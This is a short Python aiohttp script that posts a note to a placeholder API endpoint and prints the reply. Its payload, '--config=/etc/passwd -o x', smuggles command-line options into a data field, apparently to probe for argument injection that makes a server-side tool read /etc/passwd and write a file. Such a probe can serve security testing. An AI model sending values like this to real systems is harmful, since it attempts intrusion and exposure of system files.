import asyncio

import aiohttp

url = "https://api.example.com/notes"
headers = {"Content-Type": "text/plain"}
payload = "--config=/etc/passwd -o x"


async def main():
    async with aiohttp.ClientSession() as session:
        async with session.post(url, headers=headers, data=payload) as response:
            print(response.status, await response.text())


asyncio.run(main())
